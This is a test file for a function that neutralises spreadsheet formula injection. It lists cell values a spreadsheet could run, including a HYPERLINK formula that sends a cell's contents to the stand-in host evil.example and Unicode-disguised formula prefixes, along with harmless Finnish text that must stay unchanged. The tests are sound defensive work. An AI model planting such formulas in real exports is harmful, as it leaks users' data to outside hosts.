import { looksLikeFormula, neutraliseCell } from './neutralise-cell';

describe('neutraliseCell', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("http://evil.example/?x="&A1;"Klikkaa")',
    '+358 40 123',
    '-2+3',
    '@SUM(A1:A9)',
    '\tTAB',
    '\rCR',
    '\nLF',
    ' =1+1',
    '   @cmd',
    '\u00a0=1',
    '\u200b=1',
    '\ufeff+1',
    '\uff1d1+1',
    '\uff0b1',
    '\uff0d1',
    '\uff20A1',
  ])('puts a quote before %j, which a spreadsheet could run', (text) => {
    expect(looksLikeFormula(text)).toBe(true);
    expect(neutraliseCell(text)).toBe(`'${text}`);
  });

  it.each([
    '',
    'Vuokrarästit lisääntyvät',
    'Ääni kuuluu',
    '1+1=2',
    'a=b',
    '30.11.2026',
    ' sisennetty teksti',
    "'=jo neutraloitu",
    'e-mail@example.invalid',
  ])('leaves %j as it is', (text) => {
    expect(looksLikeFormula(text)).toBe(false);
    expect(neutraliseCell(text)).toBe(text);
  });

  it('neutralises once: the result never looks like a formula again', () => {
    for (const text of ['=1', ' -1', '\t@x', '\uff1d1']) {
      expect(looksLikeFormula(neutraliseCell(text))).toBe(false);
    }
  });
});
